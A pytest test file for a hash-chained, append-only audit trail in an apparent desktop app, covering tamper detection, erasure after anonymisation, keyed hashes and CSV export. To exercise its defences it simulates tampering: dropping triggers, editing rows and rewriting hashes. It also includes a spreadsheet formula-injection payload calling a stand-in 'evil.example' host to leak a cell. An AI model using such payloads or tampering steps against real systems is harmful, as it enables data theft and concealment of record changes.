"""The audit trail: rows chained by hash, append-only, and a check that finds tampering."""

from __future__ import annotations

import sqlite3
from contextlib import closing
from datetime import date, datetime
from pathlib import Path
from types import SimpleNamespace

import pytest
from sqlalchemy.exc import DBAPIError

from diversion_desktop.domain.permissions import Role
from diversion_desktop.services import audit
from diversion_desktop.services.audit_trail import AuditFilters, AuditTrailService
from diversion_desktop.services.context import AppContext
from diversion_desktop.services.errors import PermissionDenied
from diversion_desktop.store.models import AuditEvent, Person
from tests.conftest import as_role


def _write(ctx: AppContext, n: int) -> None:
    for i in range(n):
        with ctx.unit_of_work() as session:
            audit.log(
                session,
                ctx,
                "changed",
                entity="referral",
                record_id=i,
                reference=f"WB-2026-{i:05d}",
                person_id=7,
                changes=[("status", "booked", "completed"), ("note", None, "Zoë & <b>")],
            )


def test_rows_chain_and_verify(ctx: AppContext) -> None:
    _write(ctx, 5)
    with ctx.reading() as session:
        rows = session.query(AuditEvent).order_by(AuditEvent.id).all()
        assert [r.id for r in rows] == [1, 2, 3, 4, 5]
        assert rows[0].prev_hash == audit.GENESIS
        assert all(b.prev_hash == a.hash for a, b in zip(rows, rows[1:]))
    result = AuditTrailService(ctx).verify()
    assert result.ok and result.rows == 5 and "intact" in result.summary()


def test_a_rolled_back_change_leaves_no_audit_row(ctx: AppContext) -> None:
    with pytest.raises(RuntimeError), ctx.unit_of_work() as session:
        audit.log(session, ctx, "changed")
        raise RuntimeError("the change failed")
    with ctx.reading() as session:
        assert audit.count(session) == 0


def test_the_database_refuses_update_and_delete(ctx: AppContext) -> None:
    _write(ctx, 2)
    for sql in ("UPDATE audit_events SET detail = 'x'", "DELETE FROM audit_events WHERE id = 1"):
        with pytest.raises(DBAPIError, match="append-only"), ctx.engine.begin() as connection:
            connection.exec_driver_sql(sql)


def _tamper(path: Path, *statements: str) -> None:
    """What someone with the file and a SQLite tool could do: drop the guard, change rows."""
    with sqlite3.connect(path) as connection:
        connection.execute("DROP TRIGGER audit_events_no_update")
        connection.execute("DROP TRIGGER audit_events_no_delete")
        for sql in statements:
            connection.execute(sql)


@pytest.mark.parametrize(
    ("statements", "found"),
    [
        (("UPDATE audit_events SET username = 'someone' WHERE id = 3",), "row 3: its content does not match"),
        (("DELETE FROM audit_events WHERE id = 2",), "row 2 missing"),
        (("UPDATE audit_events SET changes = '[]' WHERE id = 4",), "row 4: its content"),
    ],
)
def test_verify_finds_tampering(ctx: AppContext, db_path: Path, statements: tuple[str, ...], found: str) -> None:
    _write(ctx, 5)
    ctx.engine.dispose()
    _tamper(db_path, *statements)
    result = AuditTrailService(ctx).verify()
    assert not result.ok and found in result.summary()


def test_rehashing_an_edited_row_still_breaks_the_next(ctx: AppContext, db_path: Path) -> None:
    """Recomputing the edited row's own hash does not help: the next row names the old one."""
    _write(ctx, 4)
    with ctx.reading() as session:
        row = session.get(AuditEvent, 2)
        row.username = "someone"  # in this session only, to hash it as the forger would
        fake = audit._row_hash(row)
        session.rollback()
    ctx.engine.dispose()
    _tamper(db_path, f"UPDATE audit_events SET username = 'someone', hash = '{fake}' WHERE id = 2")
    result = AuditTrailService(ctx).verify()
    assert not result.ok and "row 3: does not follow" in result.summary()


def test_viewer_filters_and_export(ctx: AppContext, tmp_path: Path) -> None:
    _write(ctx, 3)
    service = AuditTrailService(ctx)
    total, rows = service.events(AuditFilters(username="tester", action="changed"))
    assert total == 3 and rows[0].changes_text() == "status: booked → completed; note:  → Zoë & <b>"
    assert service.events(AuditFilters(username="nobody"))[0] == 0
    written = service.export(AuditFilters(), tmp_path / "audit.csv")
    assert written == 3
    text = (tmp_path / "audit.csv").read_text(encoding="utf-8-sig")
    assert "Zoë & <b>" in text and text.count("\n") == 4


def test_only_administrators_see_the_trail(ctx: AppContext) -> None:
    ctx.sign_in_as(as_role(Role.COORDINATOR))
    with pytest.raises(PermissionDenied):
        AuditTrailService(ctx).events(AuditFilters())
    with pytest.raises(PermissionDenied):
        AuditTrailService(ctx).verify()


# -- erasing values (revision 0007) ---------------------------------------------------------------
ERASE = "UPDATE audit_events SET changes = '', detail = '', salt = '', erased_at = '2033-06-01 09:00:00' WHERE id = 2"


def _mark_person_7_anonymised(ctx: AppContext) -> None:
    """The person marked anonymised, as someone with the file could do it by hand."""
    with ctx.session_factory.begin() as session:
        session.add(
            Person(
                id=7,
                reference="P000007",
                surname="Anonymised",
                forenames="Anonymised",
                surname_norm="",
                forenames_norm="",
                date_of_birth=date(1990, 5, 1),
                created_at=datetime(2026, 3, 2),
                anonymised_at=datetime(2033, 6, 1, 9, 0),
            )
        )


def _anonymise_person_7(ctx: AppContext) -> None:
    """Stand-in for retention's own run (tests/services/test_retention.py runs the real one): the
    person marked and the chain's ``person_anonymised`` row that makes their rows' erasure valid."""
    _mark_person_7_anonymised(ctx)
    with ctx.unit_of_work() as session:
        audit.log(session, ctx, "person_anonymised", entity="person", record_id=7, reference="P000007")


def test_erasing_values_keeps_the_chain_and_shows_as_erased(ctx: AppContext, tmp_path: Path) -> None:
    _write(ctx, 3)
    with ctx.reading() as session:
        digest_before = session.get(AuditEvent, 2).content_digest
    _anonymise_person_7(ctx)
    with ctx.unit_of_work() as session:
        assert audit.erase(session, datetime(2033, 6, 1, 9, 0), references=["WB-2026-00001"]) == 1
    with ctx.reading() as session:
        row = session.get(AuditEvent, 2)
        assert (row.changes, row.detail, row.salt, row.content_digest) == ("", "", "", digest_before)
        assert row.erased_at == datetime(2033, 6, 1, 9, 0) and session.get(AuditEvent, 1).erased_at is None
    service = AuditTrailService(ctx)
    assert service.verify().ok
    rows = service.events(AuditFilters(action="changed"))[1]
    assert [r.changes_text() for r in rows][1] == "(erased when the record was anonymised) 01/06/2033"
    assert "Zoë" in rows[0].changes_text()
    service.export(AuditFilters(), tmp_path / "audit.csv")
    lines = (tmp_path / "audit.csv").read_text(encoding="utf-8-sig").splitlines()
    assert lines[0].endswith(",erased_at") and lines[2].endswith(",2033-06-01 09:00:00")
    assert "Zoë" not in lines[2]
    # The rows kept by name (the anonymising run's own) keep their values.
    with ctx.unit_of_work() as session:
        assert audit.erase(session, datetime(2033, 6, 1, 9, 0), person_ids=[7], keep_actions=["changed"]) == 0
        assert audit.erase(session, datetime(2033, 6, 1, 9, 0), person_ids=[7]) == 2  # 1 and 3; 2 already
    assert service.verify().ok


@pytest.mark.parametrize(
    "sql",
    [
        "UPDATE audit_events SET changes = '', detail = 'x', salt = '', erased_at = '2033-06-01' WHERE id = 2",
        "UPDATE audit_events SET changes = '', detail = '', erased_at = '2033-06-01' WHERE id = 2",  # salt kept
        "UPDATE audit_events SET changes = '', detail = '', salt = '' WHERE id = 2",  # not marked erased
        "UPDATE audit_events SET changes = '', detail = '', salt = '', erased_at = '2033-06-01', "
        "content_digest = 'x' WHERE id = 2",
        "UPDATE audit_events SET changes = '', detail = '', salt = '', erased_at = '2033-06-01', "
        "username = 'someone' WHERE id = 2",
    ],
)
def test_the_database_allows_only_a_whole_erasure(ctx: AppContext, sql: str) -> None:
    _write(ctx, 3)
    with pytest.raises(DBAPIError, match="append-only"), ctx.engine.begin() as connection:
        connection.exec_driver_sql(sql)
    with ctx.engine.begin() as connection:
        connection.exec_driver_sql(ERASE)
    with pytest.raises(DBAPIError, match="append-only"), ctx.engine.begin() as connection:  # nor undone
        connection.exec_driver_sql("UPDATE audit_events SET changes = '[]', erased_at = NULL WHERE id = 2")


def test_rows_from_before_revision_0007_verify_and_cannot_be_erased(ctx: AppContext, db_path: Path) -> None:
    """A version-1 row (hash over its values, as revision 0005 wrote them), then the marker row
    revision 0010 writes, then keyed rows."""
    old = SimpleNamespace(
        id=1,
        at=datetime(2026, 3, 2, 10, 0),
        username="tester",
        action="changed",
        entity="person",
        record_id=7,
        record_reference="P000007",
        person_id=7,
        changes='[["surname",null,"Smith"]]',
        detail="",
        prev_hash=audit.GENESIS,
        hash_version=1,
    )
    with sqlite3.connect(db_path) as connection:
        connection.execute(
            "INSERT INTO audit_events (id, at, username, action, entity, record_id, record_reference, "
            "person_id, changes, detail, prev_hash, hash, hash_version) VALUES (1, ?, 'tester', "
            "'changed', 'person', 7, 'P000007', 7, ?, '', ?, ?, 1)",
            (old.at.isoformat(sep=" "), old.changes, audit.GENESIS, audit._row_hash(old)),
        )
    connection.close()
    with ctx.unit_of_work() as session:
        audit.record(session, "installation", ctx.now(), audit.MARKER_ACTION, entity="audit")
    _write(ctx, 1)
    assert AuditTrailService(ctx).verify().ok
    _anonymise_person_7(ctx)
    with ctx.unit_of_work() as session:
        assert audit.erase(session, datetime(2033, 6, 1, 9, 0), person_ids=[7]) == 1  # row 3
    with ctx.reading() as session:
        assert session.get(AuditEvent, 1).changes == '[["surname",null,"Smith"]]'
    with pytest.raises(DBAPIError, match="append-only"), ctx.engine.begin() as connection:
        connection.exec_driver_sql(ERASE.replace("id = 2", "id = 1"))
    assert AuditTrailService(ctx).verify().ok


def test_verify_finds_an_erasure_made_by_hand(ctx: AppContext) -> None:
    """The database lets an erasure through; one whose record was not anonymised hides what the row said."""
    _write(ctx, 3)
    with ctx.engine.begin() as connection:
        connection.exec_driver_sql(ERASE)
    result = AuditTrailService(ctx).verify()
    assert not result.ok and "row 2: its values were erased but the chain does not show" in result.summary()


def test_an_erasure_after_marking_a_person_anonymised_by_hand_is_found(ctx: AppContext) -> None:
    """Issue 14 item 10: marking the person anonymised by hand does not make the erasure valid;
    only the chain's own retention row does."""
    _write(ctx, 3)
    _mark_person_7_anonymised(ctx)
    with ctx.engine.begin() as connection:
        connection.exec_driver_sql(ERASE)
    result = AuditTrailService(ctx).verify()
    assert not result.ok and "row 2: its values were erased but the chain does not show" in result.summary()


def _rewrite_unkeyed(path: Path, key: bytes | None = None) -> None:
    """What someone with the file could do without the key: drop the guard, change a row, then
    recompute every hash (plain SHA-256, or HMAC under a key of their own)."""
    _tamper(path, "UPDATE audit_events SET username = 'someone' WHERE id = 2")
    with closing(sqlite3.connect(path)) as connection:
        rows = connection.execute(
            "SELECT id, at, username, action, entity, record_id, record_reference, person_id, "
            "changes, detail, salt, content_digest FROM audit_events ORDER BY id"
        ).fetchall()
        prev = audit.GENESIS
        for (
            row_id,
            at,
            username,
            action,
            entity,
            record_id,
            reference,
            person_id,
            changes,
            detail,
            _salt,
            digest,
        ) in rows:
            row = SimpleNamespace(
                id=row_id,
                at=datetime.fromisoformat(at),
                username=username,
                action=action,
                entity=entity,
                record_id=record_id,
                record_reference=reference,
                person_id=person_id,
                changes=changes,
                detail=detail,
                content_digest=digest,
                prev_hash=prev,
                hash_version=2 if key is None else 3,
            )
            row_hash = audit._row_hash(row, key)
            connection.execute(
                "UPDATE audit_events SET prev_hash = ?, hash = ?, hash_version = ? WHERE id = ?",
                (prev, row_hash, row.hash_version, row_id),
            )
            prev = row_hash
        connection.commit()


@pytest.mark.parametrize(
    ("key", "found"),
    [
        (None, "none is keyed with the audit key"),
        (b"k" * 32, "row 1: its content does not match its hash"),
    ],
)
def test_a_chain_rewritten_without_the_key_does_not_verify(
    ctx: AppContext, db_path: Path, key: bytes | None, found: str
) -> None:
    """Issue 14 item 10: the chain's hashes are keyed with a secret outside the database."""
    _write(ctx, 5)
    assert AuditTrailService(ctx).verify().ok
    ctx.engine.dispose()
    _rewrite_unkeyed(db_path, key)
    with ctx.reading() as session:
        result = audit.verify(session)
    assert not result.ok and found in result.summary()


def test_the_key_is_a_private_file_outside_the_database(
    ctx: AppContext, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A verify on a workstation with another key reports every keyed row: every workstation
    writing to one database needs the same key (DIVERSION_AUDIT_KEY_FILE)."""
    import stat
    import sys

    from diversion_desktop.store import audit_chain

    _write(ctx, 2)
    assert audit_chain.key_path().is_file()
    if sys.platform != "win32":
        assert stat.S_IMODE(audit_chain.key_path().stat().st_mode) == 0o600
    monkeypatch.setenv(audit_chain.KEY_ENV, str(tmp_path / "other-key"))
    try:
        with ctx.reading() as session:
            result = audit.verify(session)
        assert (tmp_path / "other-key").is_file() and not result.ok
        assert "audit key is not the one it was written with" in result.summary()
    finally:
        monkeypatch.delenv(audit_chain.KEY_ENV)
        audit_chain.forget_key()


def test_verify_finds_values_written_under_an_erased_mark(ctx: AppContext, db_path: Path) -> None:
    _write(ctx, 3)
    _anonymise_person_7(ctx)
    ctx.engine.dispose()
    _tamper(
        db_path,
        'UPDATE audit_events SET changes = \'[["status",null,"forged"]]\', '
        "erased_at = '2033-06-01 09:00:00' WHERE id = 2",
    )
    result = AuditTrailService(ctx).verify()
    assert not result.ok and "row 2: marked erased but holds values" in result.summary()


def test_the_audit_export_holds_no_live_formula(ctx: AppContext, tmp_path: Path, make_draft) -> None:
    """Issue 14 item 11: a user name typed at sign-in and a legal-hold reason starting with ``=``
    are written as text the spreadsheet program shows, never as formulas it runs."""
    import csv

    from diversion_desktop.services.intake import IntakeService
    from diversion_desktop.services.retention import RetentionService
    from diversion_desktop.services.users import SignInRefused, UserService
    from diversion_desktop.spreadsheets.cells import FORMULA_STARTS

    typed = '=HYPERLINK("http://evil.example/?"&B2,"ok")'
    with pytest.raises(SignInRefused):
        UserService(ctx).sign_in(typed, "whatever it is")
    saved = IntakeService(ctx).save(make_draft())
    RetentionService(ctx).set_legal_hold(saved.id, True, "=1+1 appeal lodged")
    out = tmp_path / "audit.csv"
    AuditTrailService(ctx).export(AuditFilters(), out)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    assert "'" + typed.lower()[:40] in cells and any(cell.startswith("'=1+1 appeal") for cell in cells)
